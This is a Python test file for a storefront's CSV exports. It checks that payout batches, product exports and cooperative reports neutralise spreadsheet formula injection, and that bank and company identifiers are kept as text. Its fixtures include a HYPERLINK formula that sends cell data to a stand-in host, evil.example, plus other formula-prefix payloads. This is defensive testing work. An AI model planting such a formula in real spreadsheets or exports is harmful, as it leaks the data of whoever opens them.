"""Spreadsheet formula injection: every CSV the product hands out neutralises text that a
spreadsheet would evaluate, and keeps identifiers (RIB, ICE) as text."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy import select

from catalog import csv_io, spreadsheet
from catalog.db import utcnow
from catalog.spreadsheet import Identifier
from orders import fulfilment, ledger, payment_attempts
from orders.models import PayoutBatch
from storefront.demo.identifiers import make_rib
from tests.storefront.backoffice import login, member, operator

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
FORMULAS = [HYPERLINK, "+33 cmd", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]


def _cells(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))


def _no_formula(cells: list[list[str]]) -> None:
    for row in cells:
        for value in row:
            if value.startswith('="') and value.endswith('"'):
                assert value[2:-1].lstrip("+").replace(" ", "").isdigit(), value
                continue
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            if value.startswith("-"):
                float(value)  # only a negative number may start with a minus


@given(st.text(max_size=30))
@example("'-")  # already starts like a neutralised cell: still read back as written
@example("''=1")
@example("'plain")
def test_no_text_reaches_a_cell_as_a_formula(text) -> None:
    _no_formula(_cells(spreadsheet.write_csv(["a"], [[text]])))
    assert spreadsheet.restore(spreadsheet.cell(text)) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_each_formula_prefix_is_neutralised(text) -> None:
    assert spreadsheet.cell(text) == "'" + text


def test_identifiers_stay_text_and_numbers_stay_numbers() -> None:
    rib = "011780000012345678901234"
    text = spreadsheet.write_csv(
        ["rib", "phone", "amount", "bad"],
        [
            [
                Identifier(rib),
                Identifier("+212661424242"),
                spreadsheet.amount(-1250),
                Identifier("=1"),
            ]
        ],
    )
    assert _cells(text)[1] == [f'="{rib}"', '="+212661424242"', "-12.50", "'=1"]


@pytest.fixture
def owed(make, session):
    coop = make.cooperative(name_fr="+Coopérative Tafoukt", ice="001561191000066")
    product = make.product(coop, on_hand=10, title_fr="=1+1", sku="ARG")
    now = utcnow()
    order = make.order({product: 2}, method="bank_transfer", now=now)
    payment_attempts.record_bank_transfer(session, order, order.total, reference="VIR-1", now=now)
    part = order.fulfilments[0]
    fulfilment.mark_shipped(session, part, "T", now=now)
    fulfilment.mark_delivered(session, part, now=now)
    ledger.set_payout_account(session, coop.id, holder_name=HYPERLINK, rib=make_rib(1, 1, 1))
    session.commit()
    return coop


def test_the_payout_batch_for_the_bank_is_neutralised(client, session, owed) -> None:
    boss = operator(session)
    session.commit()
    login(client, boss)
    client.post("/admin/payouts/new", data={"minimum": "1"})
    batch = session.scalar(select(PayoutBatch))
    cells = _cells(client.get(f"/admin/payouts/{batch.id}.csv").get_data(as_text=True))
    _no_formula(cells)
    row = dict(zip(cells[0], cells[1], strict=True))
    assert row["holder"] == "'" + HYPERLINK
    assert row["cooperative"] == "'+Coopérative Tafoukt"
    rib = make_rib(1, 1, 1)
    assert rib.startswith("0") and row["rib"] == f'="{rib}"', "leading zeros kept"
    assert row["ice"] == '="001561191000066"'


def test_product_export_is_neutralised_and_imports_back(session, owed) -> None:
    text = csv_io.export_csv(session, owed)
    cells = _cells(text, ";")
    _no_formula(cells)
    assert cells[1][cells[0].index("title_fr")] == "'=1+1"
    plan = csv_io.plan_import(session, owed, text)
    assert plan.ok and plan.rows[0].title == "=1+1", "the apostrophe is not imported"


def test_the_cooperative_reports_are_neutralised(client, session, owed) -> None:
    user = member(session, owed)
    session.commit()
    login(client, user)
    for kind in ("products", "sales", "ledger"):
        response = client.get(f"/back-office/reports/{kind}.csv?from=2000-01-01&to=2099-12-31")
        cells = _cells(response.data.decode("utf-8-sig"))
        _no_formula(cells)
        if kind == "products":
            assert cells[1][1] == "'=1+1"
